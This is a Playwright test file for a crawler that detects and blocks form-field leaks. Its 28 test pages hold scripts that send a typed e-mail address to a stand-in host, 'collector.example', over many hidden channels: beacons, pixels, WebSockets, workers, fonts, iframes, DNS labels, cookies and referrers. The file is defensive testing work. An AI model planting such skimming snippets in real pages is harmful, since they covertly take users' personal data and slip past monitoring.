import { expect, test } from '@playwright/test';
import type { Transmission } from '../../crawler/evidence/filled.js';
import { fillOn, formPage } from './fill-site.js';
import type { Site } from './logging-server.js';

const form = `<form action="/join" method="post"><label>E-mail <input type="email" name="email"></label>
  <label>Full name <input name="name"></label><button>Join</button></form>`;

interface Case {
  readonly name: string;
  /** Script of the page; `send(make)` calls `make(value)` when the e-mail field is left. */
  readonly script: string;
  readonly channel: Transmission['channel'];
  readonly moment: Transmission['moment'];
  readonly host?: string;
}

const helper = `const email = document.querySelector('[name=email]');
const C = 'https://collector.example';
const onBlur = make => email.addEventListener('blur', () => { if (email.value) make(email.value); });
const onLeave = make => addEventListener('pagehide', () => { if (email.value) make(email.value); });
const onSubmit = make => document.forms[0].addEventListener('submit', () => { if (email.value) make(email.value); });
const hex = async (algo, v) => [...new Uint8Array(await crypto.subtle.digest(algo, new TextEncoder().encode(v)))].map(b => b.toString(16).padStart(2, '0')).join('');
`;

const cases: readonly Case[] = [
  {
    name: 'fetch with JSON',
    channel: 'fetch',
    moment: 'blur',
    script: `onBlur(v => fetch(C + '/c', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ a: [{ v }] }) }))`,
  },
  {
    name: 'fetch with a preflight',
    channel: 'fetch',
    moment: 'blur',
    script: `onBlur(v => fetch(C + '/c', { method: 'PUT', headers: { 'content-type': 'application/json', 'x-v': btoa(v) }, body: '{}' }))`,
  },
  {
    name: 'fetch of gzip bytes',
    channel: 'fetch',
    moment: 'blur',
    script: `onBlur(async v => { const s = new Blob([JSON.stringify({ v })]).stream().pipeThrough(new CompressionStream('gzip')); fetch(C + '/c', { method: 'POST', mode: 'no-cors', body: await new Response(s).arrayBuffer() }); })`,
  },
  {
    name: 'fetch of 200 kB',
    channel: 'fetch',
    moment: 'blur',
    script: `onBlur(v => fetch(C + '/c', { method: 'POST', mode: 'no-cors', body: 'pad '.repeat(50000) + v }))`,
  },
  {
    name: 'XMLHttpRequest with SHA-256',
    channel: 'fetch',
    moment: 'blur',
    script: `onBlur(async v => { const x = new XMLHttpRequest(); x.open('GET', C + '/c?h=' + await hex('SHA-256', v.trim().toLowerCase())); x.send(); })`,
  },
  {
    name: 'multipart with a file',
    channel: 'fetch',
    moment: 'blur',
    script: `onBlur(v => { const d = new FormData(); d.append('f', new Blob(['x ' + v]), 'a.txt'); fetch(C + '/c', { method: 'POST', mode: 'no-cors', body: d }); })`,
  },
  {
    name: 'beacon',
    channel: 'beacon',
    moment: 'blur',
    script: `onBlur(v => navigator.sendBeacon(C + '/c', new URLSearchParams({ v })))`,
  },
  {
    name: 'beacon at pagehide',
    channel: 'beacon',
    moment: 'leaving',
    script: `onLeave(v => navigator.sendBeacon(C + '/c', encodeURIComponent(v)))`,
  },
  {
    name: 'keepalive at pagehide',
    channel: 'beacon',
    moment: 'leaving',
    script: `onLeave(v => fetch(C + '/c', { method: 'POST', mode: 'no-cors', keepalive: true, body: btoa(v) }))`,
  },
  {
    name: 'pixel at pagehide',
    channel: 'image',
    moment: 'leaving',
    script: `onLeave(v => { new Image().src = C + '/p?v=' + encodeURIComponent(v); })`,
  },
  {
    name: 'pixel on submit',
    channel: 'image',
    moment: 'submit',
    script: `onSubmit(v => { new Image().src = C + '/p?v=' + encodeURIComponent(v); })`,
  },
  {
    name: 'image while typing',
    channel: 'image',
    moment: 'typing',
    script: `email.addEventListener('input', () => { if (email.value.includes('.')) new Image().src = C + '/p.gif?v=' + escape(email.value); })`,
  },
  {
    name: 'hyperlink ping',
    channel: 'ping',
    moment: 'blur',
    script: `onBlur(v => { const a = document.createElement('a'); a.href = '#x'; a.ping = C + '/ping?v=' + v; document.body.append(a); a.click(); })`,
  },
  {
    name: 'script',
    channel: 'script',
    moment: 'blur',
    script: `onBlur(v => { const s = document.createElement('script'); s.src = C + '/j.js?' + v; document.body.append(s); })`,
  },
  {
    name: 'style sheet',
    channel: 'style',
    moment: 'blur',
    script: `onBlur(v => { const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = C + '/c.css?' + v; document.head.append(s); })`,
  },
  {
    name: 'CSS picture',
    channel: 'image',
    moment: 'blur',
    script: `onBlur(v => { document.body.style.backgroundImage = 'url(' + C + '/c.png?' + v + ')'; })`,
  },
  {
    name: 'font',
    channel: 'font',
    moment: 'blur',
    script: `onBlur(v => { new FontFace('x', 'url(' + C + '/c.woff?' + v + ')').load().catch(() => 0); })`,
  },
  {
    name: 'frame address',
    channel: 'frame',
    moment: 'blur',
    script: `onBlur(v => { const s = document.createElement('iframe'); s.src = C + '/f?' + v; document.body.append(s); })`,
  },
  {
    name: 'form into a frame',
    channel: 'frame',
    moment: 'blur',
    script: `onBlur(v => { document.body.insertAdjacentHTML('beforeend', '<iframe name=q></iframe><form id=q2 target=q method=post enctype=text/plain action=' + C + '/f><input name=v></form>'); q2.v.value = v; q2.submit(); })`,
  },
  {
    name: 'worker',
    channel: 'fetch',
    moment: 'blur',
    script: `const w = new Worker(URL.createObjectURL(new Blob(['onmessage = e => fetch("' + C + '/w", { method: "POST", mode: "no-cors", body: e.data })']))); onBlur(v => w.postMessage(v))`,
  },
  {
    name: 'EventSource',
    channel: 'eventsource',
    moment: 'blur',
    script: `onBlur(v => new EventSource(C + '/es?v=' + v))`,
  },
  {
    name: 'WebSocket',
    channel: 'websocket',
    moment: 'blur',
    script: `const s = new WebSocket('wss://collector.example/s'); onBlur(v => s.send(JSON.stringify({ v: btoa(v) })))`,
  },
  {
    name: 'WebSocket in a worker',
    channel: 'websocket',
    moment: 'blur',
    script: `const w = new Worker(URL.createObjectURL(new Blob(['const s = new WebSocket("wss://collector.example/s"); onmessage = e => s.send(e.data)']))); onBlur(v => w.postMessage(v))`,
  },
  {
    name: 'prefetch link',
    channel: 'prefetch',
    moment: 'blur',
    script: `onBlur(v => { const s = document.createElement('link'); s.rel = 'prefetch'; s.href = C + '/pre?' + v; document.head.append(s); })`,
  },
  {
    name: 'speculation rules',
    channel: 'prefetch',
    moment: 'blur',
    host: 'www.mpro.org',
    script: `onBlur(v => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['/next?' + v], eagerness: 'immediate' }] }); document.head.append(s); })`,
  },
  {
    name: 'host label',
    channel: 'image',
    moment: 'blur',
    host: '',
    script: `onBlur(v => { new Image().src = 'https://' + v.replace('@', '.').replace(/[^a-z.]/g, '') + '.collector.example/p'; })`,
  },
  {
    name: 'cookie',
    channel: 'image',
    moment: 'blur',
    host: 'www.mpro.org',
    script: `onBlur(v => { document.cookie = 'e=' + encodeURIComponent(v); new Image().src = '/p.png'; })`,
  },
  {
    name: 'referrer',
    channel: 'image',
    moment: 'blur',
    script: `onBlur(v => { history.replaceState(0, '', '/?e=' + v); const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = C + '/p.png'; })`,
  },
];

const site =
  (script: string): Site =>
  ({ path, host }) => {
    if (host === 'www.mpro.org' && path === '/') return formPage(form, `${helper}${script}`);
    return {
      body: 'ok',
      headers: {
        'access-control-allow-origin': '*',
        'access-control-allow-headers': '*',
        'access-control-allow-methods': '*',
      },
    };
  };

/** All spellings of a value that would betray it in a server's log without the matcher's help. */
const spellings = (value: string): string[] => [
  value,
  encodeURIComponent(value),
  Buffer.from(value).toString('base64').slice(0, 12),
  Buffer.from(value).toString('hex').slice(0, 16),
];

for (const { name, script, channel, moment, host = 'collector.example' } of cases) {
  test(`${name}: seen as ${channel} at ${moment}, and not a byte of it arrives`, async () => {
    const { filled, raw } = await fillOn(site(script));
    expect(filled.outcome).toEqual({ ok: true });
    const value = filled.typed.find(({ kind }) => kind === 'email')?.value ?? '';
    expect(value).toContain('@');
    const side = filled.transmissions.filter(
      each => !each.isSubmission && (host === '' || each.host === host),
    );
    expect(side.map(each => [each.channel, each.moment, each.stopped])).toContainEqual([
      channel,
      moment,
      true,
    ]);
    expect(side.filter(each => each.channel !== channel || each.moment !== moment)).toEqual([]);
    expect(side.every(each => each.sightings.every(({ field }) => field === 'input[name="email"]'))).toBe(
      true,
    );
    for (const spelling of spellings(value)) expect(raw).not.toContain(spelling);
  });
}
